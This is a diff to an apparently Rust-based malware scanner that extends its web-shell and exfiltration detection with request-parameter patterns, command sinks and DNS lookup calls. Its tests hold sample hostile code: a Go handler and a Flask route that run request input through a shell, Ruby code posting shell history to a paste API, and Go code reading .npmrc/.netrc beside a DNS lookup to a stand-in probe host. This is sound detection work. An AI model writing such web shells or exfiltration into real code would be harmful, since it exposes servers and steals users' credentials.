@@ -56,7 +56,7 @@ const SOCKETS: [&str; 31] = [
 
 /// Inbound web-request input (PHP superglobals and their kin): a command sink close to
 /// one is a web shell.
-const REQUEST_INPUTS: [&str; 12] = [
+const REQUEST_INPUTS: [&str; 23] = [
     // OpenResty's (nginx's Lua) request headers and arguments.
     "ngx.req.get_headers",
     "ngx.var.http_",
@@ -70,6 +70,18 @@ const REQUEST_INPUTS: [&str; 12] = [
     "$_server[\"http_",
     "php://input",
     "getallheaders(",
+    // Go's net/http, Express, Flask and Rails request parameters.
+    "r.url.query()",
+    "r.formvalue(",
+    "r.postformvalue(",
+    "req.query.",
+    "req.query[",
+    "req.body.",
+    "req.params.",
+    "request.args",
+    "request.form",
+    "request.get_json(",
+    "params[:",
 ];
 
 /// Lines between request input and a command sink that still read as a web shell.
@@ -103,6 +115,11 @@ const SINKS: [&str; 24] = [
     "eval \"",
 ];
 
+/// Forms that run a command, paired only with request input: common enough beside a
+/// socket in ordinary tools (a free port found, then a server started) that only a
+/// request parameter close by makes them a web shell.
+const REQUEST_SINKS: [&str; 5] = ["subprocess.", "execsync(", "spawnsync(", "execfilesync(", "exec("];
+
 /// Whether a line is only a comment in the common comment syntaxes (a `#!` line is not).
 fn is_comment(line: &str) -> bool {
     let t = line.trim_start();
@@ -124,6 +141,7 @@ pub fn find(text: &str) -> Option<(Hit, Hit)> {
     let mut sockets: Vec<Hit> = Vec::new();
     let mut sinks: Vec<Hit> = Vec::new();
     let mut requests: Vec<Hit> = Vec::new();
+    let mut request_sinks: Vec<Hit> = Vec::new();
     for (index, line) in text.lines().enumerate() {
         if line.len() > 4096 || is_comment(line) {
             continue;
@@ -137,9 +155,12 @@ pub fn find(text: &str) -> Option<(Hit, Hit)> {
         }
         if let Some(form) = SINKS.iter().find(|s| lower.contains(**s)) {
             sinks.push((index + 1, form));
+            request_sinks.push((index + 1, form));
+        } else if let Some(form) = REQUEST_SINKS.iter().find(|s| lower.contains(**s)) {
+            request_sinks.push((index + 1, form));
         }
     }
-    let near = |sources: &[Hit], window: usize| {
+    let near = |sources: &[Hit], sinks: &[Hit], window: usize| {
         sources.iter().find_map(|source| {
             sinks
                 .iter()
@@ -148,7 +169,7 @@ pub fn find(text: &str) -> Option<(Hit, Hit)> {
                 .map(|sink| (*source, *sink))
         })
     };
-    near(&sockets, WINDOW).or_else(|| near(&requests, REQUEST_WINDOW))
+    near(&sockets, &sinks, WINDOW).or_else(|| near(&requests, &request_sinks, REQUEST_WINDOW))
 }
 
 /// Records a command channel found in `text` (the file `path`) as `network-shell`
@@ -188,7 +209,7 @@ pub fn record(out: &mut Findings, path: &str, text: &str) {
 
 /// Forms that send data over the network in the languages the evaluator does not
 /// model, lowercase: HTTP clients' posting calls, SMTP, and the sockets above.
-const SENDS: [&str; 33] = [
+const SENDS: [&str; 42] = [
     "net::http.post",
     "net::http.start",
     "net::http::post",
@@ -223,6 +244,17 @@ const SENDS: [&str; 33] = [
     // Terraform's http data source, read at `plan`.
     "data \"http\"",
     "request_body",
+    // Name lookups: a query for a name someone else's server answers carries its
+    // labels there.
+    "net.lookuphost(",
+    "net.lookupip(",
+    "net.lookuptxt(",
+    "net.lookupaddr(",
+    ".lookuphost(",
+    "resolv.getaddress",
+    "resolv::dns",
+    "gethostbyname(",
+    "dns.resolve",
 ];
 
 /// Decoders whose output, handed straight to `eval`, runs code no file shows: PHP's
@@ -332,9 +364,12 @@ pub fn record_unmodelled(out: &mut Findings, path: &str, text: &str) {
         format!("names {what}"),
         None,
     );
+    let lookup = ["lookup", "resolv", "gethostbyname", "dns."]
+        .iter()
+        .any(|d| form.contains(d));
     behaviour_evidence(
         out,
-        "egress/http",
+        if lookup { "egress/dns" } else { "egress/http" },
         path,
         send_line,
         line_text(send_line),
@@ -343,9 +378,23 @@ pub fn record_unmodelled(out: &mut Findings, path: &str, text: &str) {
     );
 }
 
-/// The quoted strings of one line (`'…'`, `"…"`, `` `…` ``), escapes left as written.
+/// The quoted strings of one line (`'…'`, `"…"`, `` `…` ``), escapes left as written,
+/// and the words of Ruby's `%w[…]` and Perl's `qw(…)` lists.
 fn string_literals(line: &str) -> Vec<String> {
     let mut out = Vec::new();
+    for opener in ["%w[", "%w(", "%i[", "%w{", "qw(", "qw[", "qw{", "qw/"] {
+        for (at, _) in line.match_indices(opener) {
+            let rest = &line[at + opener.len()..];
+            let close = match opener.as_bytes()[opener.len() - 1] {
+                b'[' => ']',
+                b'(' => ')',
+                b'{' => '}',
+                _ => '/',
+            };
+            let words = rest.split(close).next().unwrap_or(rest);
+            out.extend(words.split_whitespace().map(str::to_string));
+        }
+    }
     let mut quote: Option<char> = None;
     let mut current = String::new();
     let mut escaped = false;
@@ -433,6 +482,31 @@ mod tests {
         record_unmodelled(&mut out, "a.rb", "puts File.exist?('~/.ssh/id_rsa')\n");
         record_unmodelled(&mut out, "b.go", "http.Post(url, \"text/plain\", r)\n");
         assert!(out.evidence.is_empty());
+    }
+
+    #[test]
+    fn a_request_parameter_run_as_a_command_is_a_web_shell_a_socket_beside_a_subprocess_is_not() {
+        let go = "func debugExec(w http.ResponseWriter, r *http.Request) {\n\tout, _ := exec.Command(\"/bin/sh\", \"-c\", r.URL.Query().Get(\"q\")).CombinedOutput()\n\tw.Write(out)\n}\n";
+        assert!(find(go).is_some());
+        let flask = "@app.post('/run')\ndef run():\n    cmd = request.get_json()['cmd']\n    return subprocess.check_output(cmd, shell=True)\n";
+        assert!(find(flask).is_some());
+        // A free port found with a socket, then a server started: ordinary tooling.
+        let port = "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\ns.close()\nsubprocess.run(['npm', 'run', 'dev', '--', '--port', str(port)])\n";
+        assert!(find(port).is_none());
+    }
+
+    #[test]
+    fn word_lists_and_name_lookups_are_read_in_unmodelled_languages() {
+        let ruby = "hist = %w[.bash_history .zsh_history].map { |f| File.join(Dir.home, f) }\nNet::HTTP.post_form(API, 'api_paste_code' => hist.join)\n";
+        let mut out = Findings::default();
+        record_unmodelled(&mut out, "share.rb", ruby);
+        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
+        assert_eq!(tags, ["secret-read/shell-history", "egress/http"]);
+        let go = "var files = []string{\".npmrc\", \".netrc\"}\nfunc warm(label string) { net.LookupHost(label + \".m.probe.example\") }\n";
+        let mut out = Findings::default();
+        record_unmodelled(&mut out, "cache.go", go);
+        let tags: Vec<&str> = out.evidence.iter().map(|e| e.tag.as_str()).collect();
+        assert_eq!(tags, ["secret-read/dev-credentials", "egress/dns"]);
     }
 
     #[test]
